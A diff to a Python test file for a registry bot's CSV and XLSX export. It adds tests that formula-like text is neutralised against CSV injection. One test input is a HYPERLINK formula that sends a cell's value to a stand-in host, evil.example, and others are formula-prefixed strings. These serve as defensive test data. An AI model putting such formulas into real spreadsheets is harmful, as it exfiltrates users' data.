@@ -98,7 +98,7 @@ def test_registration_over_the_webhook_then_export(app, signed_post, cli_env, tm
     assert "1 actors written" in result.output
     if fmt == "csv":
         with open(out, encoding="utf-8-sig", newline="") as fh:
-            [row] = list(csv.DictReader(fh))
+            [row] = list(csv.DictReader(fh, delimiter=";"))
     else:
         from openpyxl import load_workbook
 
@@ -140,7 +140,7 @@ def test_deletion_keeps_only_anonymous_counts_and_redacts_messages(app, signed_p
     # Anonymised rows: times only to the month (re-identification risk).
     import csv
 
-    [row] = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
+    [row] = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
     month = actor.deleted_at.strftime("%Y-%m")
     assert row["deleted_at"] == month and row["created_at"] == month
     assert row["updated_at"] == month
@@ -178,3 +178,38 @@ def test_purge_forgets_registrations_past_the_retention_period(app, signed_post,
         bodies_left = s.execute(sa.select(Message.body)).scalars().all()
     assert actor.deleted_at is not None and actor.name is None and actor.contact_name is None
     assert set(bodies_left) == {""}
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?x="&A1,"Clic")',
+                                   "+33 Diarra", "-2+3 Traoré", "@SUM(1+1)", "\t=1+1"])
+def test_text_that_a_spreadsheet_would_run_is_neutralised(typed):
+    """Newcomer's test: a trade typed as a formula came out as a live formula in the Excel
+    export (OWASP CSV Injection)."""
+    from bot.registry.export import cell
+
+    out = cell(typed)
+    assert out.startswith("'") and out[1:] == typed
+    assert cell("+22370000001") == "+22370000001"  # a phone is not a formula
+    assert cell("Awa Traoré") == "Awa Traoré"
+
+
+def test_xlsx_export_has_no_formula_cells(app, tmp_path):
+    import openpyxl
+    import sqlalchemy as sa
+
+    from bot.db import transaction
+    from bot.models import Actor, utcnow
+    from bot.registry.export import export_actors
+
+    with transaction(app) as conn:
+        conn.execute(sa.insert(Actor.__table__).values(
+            phone="+22370000077", name="=1+1", trade='=HYPERLINK("http://x","y")', needs=[],
+            consent_at=utcnow(), registered_at=utcnow(), created_at=utcnow(),
+            updated_at=utcnow()))
+    out = tmp_path / "r.xlsx"
+    assert export_actors(app, "xlsx", str(out)) == 1
+    sheet = openpyxl.load_workbook(out).active
+    types = {c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
+    assert "f" not in types
+    values = [c.value for c in next(sheet.iter_rows(min_row=2))]
+    assert "'=1+1" in values
